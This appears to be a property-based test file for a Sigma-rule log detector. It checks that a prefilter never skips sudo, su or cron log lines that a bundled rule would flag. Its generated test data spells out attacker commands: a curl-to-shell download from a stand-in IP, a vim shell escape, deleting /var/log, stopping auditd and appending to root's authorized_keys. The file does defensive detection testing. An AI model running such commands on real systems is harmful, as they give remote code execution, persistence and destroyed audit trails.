/** Messages of sudo and su that are passed over once they were judged: none of them may be one that a rule wants. */
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { createDecode } from '../../src/decoders/decode.ts';
import { createSkim } from '../../src/decoders/skim.ts';
import { loadRules } from '../../src/detectors/sigma/load.ts';
import { readRuleFiles } from '../../src/detectors/sigma/read-files.ts';
import type { LinkedRule, RuleSet } from '../../src/detectors/sigma/rule-set.ts';
import { BUNDLED_RULES } from '../../src/pipeline.ts';

const files = readRuleFiles([BUNDLED_RULES]);
const bundled = loadRules(files).set;
const decode = createDecode({ timezone: 'UTC', program: null });
const HEAD = 'Nov 24 03:00:00 web01 ';

function passerOf(set: RuleSet): (line: string) => boolean {
  const skim = createSkim(set, null);
  return (line) => skim?.(Buffer.from(line), 0, line.length) === true;
}

function matches(set: RuleSet, line: string): LinkedRule[] {
  const event = decode.decode(line, Date.parse('2026-11-24T12:00:00Z'))!;
  const found: LinkedRule[] = [];
  set.tableFor(event.kind).match(event, found);
  return found;
}

const QUIET = `${HEAD}sudo:      bob : TTY=pts/9 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/docker ps`;

test('the bundled rules want no plain command and no plain change of the account', () => {
  const passes = passerOf(bundled);
  expect(passes(QUIET)).toBe(true);
  expect(passes(`${HEAD}su[12]: (to root) carol on pts/6`)).toBe(true);
  expect(passes(`${HEAD}CRON[12]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)`)).toBe(true);
  expect(passes(`${HEAD}sshd[12]: pam_unix(sshd:auth): check pass; user unknown`)).toBe(true);
});

test('what a rule matches is never passed over', () => {
  const passes = passerOf(bundled);
  const user = fc.constantFrom('bob', 'root', 'www-data', 'nginx', 'a b');
  const command = fc.constantFrom(
    '/usr/bin/docker ps',
    '/usr/bin/docker run -v /:/host alpine',
    '/usr/bin/vim -c :!sh',
    '/bin/rm -rf /var/log',
    '/usr/bin/systemctl stop auditd',
    '/usr/bin/tee -a /root/.ssh/authorized_keys',
    '/bin/sh -c curl http://192.0.2.1/x | sh',
    '/usr/sbin/useradd x',
  );
  const reason = fc.constantFrom(
    '',
    'user NOT in sudoers ; ',
    'command not allowed ; ',
    '3 incorrect password attempts ; ',
  );
  const text = fc.oneof(
    fc
      .tuple(user, reason, command)
      .map(([who, why, what]) => `sudo: ${who} : ${why}TTY=x ; PWD=/ ; USER=root ; COMMAND=${what}`),
    fc
      .tuple(fc.constantFrom('(to root) ', 'FAILED SU (to root) ', 'FAILED su for root by '), user)
      .map(([what, who]) => `su[1]: ${what}${who} on pts/1`),
    fc
      .tuple(user, fc.constantFrom('CMD', 'REPLACE', 'DELETE', 'RELOAD'), command)
      .map(([who, what, how]) => `CRON[7]: (${who}) ${what} (${how})`),
    fc.constantFrom('sudo', 'su', 'sshd').map((who) => `${who}: pam_unix(${who}:auth): check pass; user unknown`),
  );
  let passed = 0;
  fc.assert(
    fc.property(text, (each) => {
      const line = HEAD + each;
      if (!passes(line)) return;
      passed++;
      expect(matches(bundled, line), line).toEqual([]);
    }),
    { numRuns: 2000 },
  );
  expect(passed).toBeGreaterThan(50);
});

test('a rule about commands at night, or about the number of the process, wants every one of them looked at', () => {
  const made = (selection: string): RuleSet =>
    loadRules([
      {
        path: 'x.yml',
        text: `title: x\nid: 9b1d0000-0000-4000-8000-000000000001\nlevel: low\nlogsource: {product: linux, service: sudo}\ndetection: {s: {${selection}}, condition: s}\n`,
      },
    ] as never).set;
  expect(passerOf(made('process.pid: 7'))(QUIET)).toBe(false);
  expect(passerOf(made('process.command_line|contains: vim'))(QUIET)).toBe(true);
  expect(passerOf(made('message|contains: docker'))(QUIET)).toBe(false);
});
